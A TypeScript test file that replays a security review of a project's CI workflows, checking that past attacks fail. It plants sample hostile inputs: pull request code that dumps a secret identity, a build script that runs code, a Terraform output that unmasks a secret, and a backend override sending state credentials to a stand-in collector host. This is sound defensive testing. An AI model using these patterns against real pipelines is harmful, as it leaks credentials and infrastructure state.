/**
 * The review of the workflows, replayed: each attack it found (reproduced then with fake secrets) played against the
 * commands the workflows now run, offline, and refused. The workflow rules behind them are in workflows.test.ts; the
 * commands' own behaviour in their tests.
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { parse } from 'yaml';
import { applyCheckCommand } from '../ci/apply-check';
import { planBatchCommand } from '../ci/plan-batch';
import { prComment } from '../ci/pr-comment';
import { pullRequestScopeCommand } from '../ci/pull-request-scope';
import { showPlans } from '../ci/show-plans';
import { stackFolder } from '../core/environment';
import { S3_BACKEND_SETTINGS, stateKey } from '../stacks/backend-block';
import { runForTest } from './command';
import { git, localStateEnv, repository, root, stacksDir, type JobEnv } from './ci-support';

/** The fake secrets of the review: none may reach anything a job writes. */
const SECRETS = {
  OVH_IAC_AGE_IDENTITY: 'AGE-SECRET-KEY-1QQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQ',
  TF_VAR_ovh_cedricfrancoys_application_secret: 'fake-ovh-application-secret-0001',
  AWS_ACCESS_KEY_ID: 'AKIAFAKESTATEKEY0001',
  AWS_SECRET_ACCESS_KEY: 'fake-state-secret-key-0001',
};
const machine = { PATH: process.env.PATH ?? '', HOME: process.env.HOME ?? '' };
const planBatch = (argv: string[], env: JobEnv) => runForTest(planBatchCommand, argv, { env: { ...machine, ...SECRETS, ...env } });
const temp = (name: string) => fs.mkdtempSync(path.join(os.tmpdir(), `red-team-${name}-`));
const workflow = (file: string) => parse(fs.readFileSync(path.join(root, '.github', 'workflows', file), 'utf8'));

describe("1 (critical): the pull request's files replaced the trusted review code, which then ran with the secrets", () => {
  test('its review/ code, its own "affected" and its synthesized stacks are never read; its code never runs', async () => {
    const { repo, commit, write } = repository();
    git(repo, 'checkout', '-q', '-b', 'pr');
    const pwned = path.join(temp('marker'), 'pwned');
    // What the attack shipped: review code that prints the identity, a results folder, a forged change list, and
    // code that would leave a mark if anything ran it.
    write('review/validate-command.ts', `require('fs').writeFileSync(${JSON.stringify(pwned)}, process.env.OVH_IAC_AGE_IDENTITY ?? '');\n`);
    write('review/changes.json', '{"affected": [], "destructive": false, "markdown": "all good"}\n');
    write(
      'review/cdktf.out/stacks/betterfinance.eu/cdk.tf.json',
      '{"output": {"x": {"value": "${nonsensitive(var.ovh_cedricfrancoys_application_secret)}"}}}',
    );
    write('main.ts', `require('fs').writeFileSync(${JSON.stringify(pwned)}, 'ran');\n`);
    write('package.json', JSON.stringify({ scripts: { synth: `node -e "require('fs').writeFileSync('${pwned}', 'ran')"` } }));
    fs.writeFileSync(
      path.join(repo, 'clients/betterfinance.eu.yaml'),
      fs.readFileSync(path.join(repo, 'clients/betterfinance.eu.yaml'), 'utf8').replace('target: 51.38.12.34', 'target: 51.38.12.35'),
    );
    const head = commit('attack');
    git(repo, 'checkout', '-q', 'main');
    const out = temp('scope');
    const run = await runForTest(pullRequestScopeCommand, ['--repo', repo, '--head', head, '--base', 'main', '--out', out], {
      env: { ...machine, ...SECRETS },
    });
    expect(run.code).toBe(0);
    // The stacks to plan are the default branch's own finding, from the client files.
    expect(fs.readFileSync(path.join(out, 'affected.txt'), 'utf8')).toBe('betterfinance.eu\n');
    // Only client files left the commit, into a folder of their own; nothing landed in the checkout; nothing ran.
    expect(fs.readdirSync(out).sort()).toEqual(['affected.txt', 'changes.json', 'clients']);
    expect(fs.readdirSync(path.join(out, 'clients')).every((name) => name.endsWith('.yaml'))).toBe(true);
    expect(git(repo, 'status', '--porcelain')).toBe('');
    expect(fs.existsSync(pwned)).toBe(false);
    const changes = fs.readFileSync(path.join(out, 'changes.json'), 'utf8');
    for (const secret of Object.values(SECRETS)) expect(changes).not.toContain(secret);
    expect(JSON.parse(changes).code.named).toEqual(expect.arrayContaining(['main.ts', 'package.json', 'review/validate-command.ts']));
  });

  test("the Plan workflow takes no artifact from the pull request's run, and lands no download in the checkout", () => {
    const plan = workflow('plan.yml');
    const steps = Object.values(plan.jobs as Record<string, { steps?: { uses?: string; with?: Record<string, string> }[] }>).flatMap(
      (job) => job.steps ?? [],
    );
    const downloads = steps.filter((step) => step.uses?.startsWith('actions/download-artifact@'));
    expect(downloads.map((step) => step.with?.['run-id'])).toEqual(downloads.map(() => undefined));
    expect(downloads.map((step) => step.with?.path.startsWith('${{ runner.temp }}/'))).toEqual(downloads.map(() => true));
    expect(downloads.map((step) => step.with?.name ?? step.with?.pattern)).not.toContain('review');
  });
});

describe('2 (high): the pull request decided what was planned, and an empty list turned the status green', () => {
  test('a plan job that did not report fails the status; only the default branch finding no stack makes an empty list green', () => {
    const changes = path.join(temp('changes'), 'changes.json');
    fs.writeFileSync(changes, JSON.stringify({ affected: ['betterfinance.eu'], destructive: false, markdown: '' }));
    const noResults = temp('results');
    expect(prComment({ changes, headSha: 'a'.repeat(40), plans: noResults })).toMatchObject({ state: 'failure' });
  });
});

describe('3 (high): an extra Terraform file beside cdk.tf.json leaked a TF_VAR secret and the AWS key', () => {
  test.each([
    [
      'an extra file that outputs a secret',
      (dir: string) =>
        fs.writeFileSync(
          path.join(dir, 'leak.tf.json'),
          JSON.stringify({ output: { x: { value: '${nonsensitive(var.ovh_cedricfrancoys_application_secret)}' } } }),
        ),
    ],
    ['a variables file', (dir: string) => fs.writeFileSync(path.join(dir, 'terraform.auto.tfvars'), 'x = 1\n')],
    [
      'an override of the backend',
      (dir: string) =>
        fs.writeFileSync(
          path.join(dir, 'backend_override.tf.json'),
          JSON.stringify({ terraform: { backend: { s3: { endpoints: { s3: 'https://collector.example.invalid' } } } } }),
        ),
    ],
    ['a seeded .terraform folder', (dir: string) => fs.mkdirSync(path.join(dir, '.terraform', 'providers'), { recursive: true })],
  ])('%s refuses the stack before any terraform command, and nothing is written', async (_attack, plant) => {
    const env = localStateEnv();
    const dir = stacksDir(env, { betterfinance: { resource: { terraform_data: { a: { input: 'a' } } } } });
    plant(stackFolder(dir, 'betterfinance'));
    const results = temp('results');
    const run = await planBatch(['--stacks-dir', dir, '--results', results, '--stacks', 'betterfinance'], env);
    expect(run.code).toBe(2);
    expect(run.err.join('\n')).toMatch(/not written by the synthesis, and Terraform would read it/);
    expect(fs.readdirSync(path.join(results, 'stacks'))).toEqual([]);
    expect(fs.readdirSync(stackFolder(dir, 'betterfinance')).includes('.terraform.lock.hcl')).toBe(false);
  });

  test("a backend sent to another endpoint is refused: the state's key would go with it", async () => {
    const env = { ...localStateEnv(), OVH_IAC_STATE_BUCKET: 'agency-tfstate' };
    const dir = stacksDir(env, {});
    fs.mkdirSync(stackFolder(dir, 'betterfinance'), { recursive: true });
    // The agency's backend to the key, but for its endpoint: a collector of the pull request's.
    const backend = {
      s3: {
        ...S3_BACKEND_SETTINGS,
        bucket: 'agency-tfstate',
        key: stateKey('betterfinance'),
        region: 'gra',
        endpoints: { s3: 'https://collector.example.invalid' },
      },
    };
    fs.writeFileSync(path.join(stackFolder(dir, 'betterfinance'), 'cdk.tf.json'), JSON.stringify({ terraform: { backend } }));
    const run = await planBatch(['--stacks-dir', dir, '--results', temp('results'), '--stacks', 'betterfinance'], env);
    expect(run.code).toBe(2);
    expect(run.err).toEqual([expect.stringContaining('terraform.backend.s3.endpoints.s3: expected "https://s3.gra.io.cloud.ovh.net"')]);
  });
});

describe('4 (high): a re-run of an old Apply applied the old configuration and moved the tag backwards', () => {
  test('the old commit is refused once the default branch has moved past it; the tag never goes back', async () => {
    const { repo, commit } = repository();
    const old = git(repo, 'rev-parse', 'HEAD');
    fs.appendFileSync(path.join(repo, 'clients/betterfinance.eu.yaml'), '# newer\n');
    const newer = commit('newer');
    git(repo, 'tag', 'ovh-iac-applied', newer);
    const applyOld = () =>
      runForTest(applyCheckCommand, ['--repo', repo, '--commit', old, '--branch', 'main', '--applied', 'ovh-iac-applied']);
    const rerun = await applyOld();
    expect(rerun.code).toBe(2);
    expect(rerun.err[0]).toContain('an Apply of an older commit (a re-run) would apply an old configuration');
    // The default branch forced back to the old commit: applying it would move the tag behind what is applied.
    git(repo, 'reset', '-q', '--hard', old);
    const backwards = await applyOld();
    expect(backwards.code).toBe(2);
    expect(backwards.err[0]).toContain('the tag only moves forward');
  });

  test('plans other than those shown to the approver are refused before anything is opened', async () => {
    const env = { ...localStateEnv(), OVH_IAC_STATE_BUCKET: 'agency-tfstate' };
    const dir = stacksDir(env, {});
    const shown = temp('plans');
    fs.mkdirSync(path.join(shown, 'stacks'));
    fs.writeFileSync(path.join(shown, 'stacks', 'a.json'), JSON.stringify({ stack: 'a', exitcode: 0, plan: 'No changes.', seconds: {} }));
    const run = await planBatch(
      ['--stacks-dir', dir, '--results', temp('results'), '--stacks', 'a', '--apply-saved', shown, '--expect-digest', 'e'.repeat(64)],
      env,
    );
    expect(run.code).toBe(2);
    expect(run.err[0]).toMatch(/are not the ones shown for approval/);
  });
});

describe('5 (high): Apply planned against an empty local state and ordered every service again', () => {
  test('without the state bucket, Apply plans nothing and applies nothing', async () => {
    const env = localStateEnv();
    const dir = stacksDir(env, { betterfinance: { resource: { terraform_data: { a: { input: 'a' } } } } });
    for (const mode of [
      ['--save', '--recipients-store', 'credentials/apply.json'],
      ['--apply-saved', temp('plans'), '--expect-digest', '0'.repeat(64)],
    ]) {
      const run = await planBatch(['--stacks-dir', dir, '--results', temp('results'), '--stacks', 'betterfinance', ...mode], env);
      expect(run.code).toBe(2);
      expect(run.err[0]).toContain('needs the remote state (OVH_IAC_STATE_BUCKET)');
    }
    const [first] = (workflow('apply.yml').jobs.prepare.steps as { if?: string; run?: string }[]) ?? [];
    expect(first).toMatchObject({ if: "vars.OVH_IAC_STATE_BUCKET == ''", run: expect.stringContaining('exit 1') });
  });
});

describe('6 (medium): approval before any plan existed; destroys applied without a second look', () => {
  test('the approval is bound to the plans shown, and destructions wait for their own', () => {
    const plans = temp('plans');
    fs.mkdirSync(path.join(plans, 'stacks'));
    fs.writeFileSync(
      path.join(plans, 'stacks', 'betterfinance.eu.json'),
      JSON.stringify({
        stack: 'betterfinance.eu',
        exitcode: 2,
        plan: 'Plan: 1 to add, 0 to change, 1 to destroy.',
        digest: { errored: false, changes: [{ address: 'ovh_vps.staging', type: 'ovh_vps', action: 'replace' }] },
        saved: { planSha256: 'a'.repeat(64), shownSha256: 'b'.repeat(64), shown: '# ovh_vps.staging must be replaced' },
        seconds: {},
      }),
    );
    const byHand = showPlans(plans, { reviewers: false, allowDestroy: true });
    expect(byHand).toMatchObject({ destroys: true, apply: 'wait', destroy: 'wait' });
    expect(showPlans(plans, { reviewers: false, approve: byHand.digest, allowDestroy: false })).toMatchObject({
      apply: 'approved',
      destroy: 'wait',
    });
  });
});
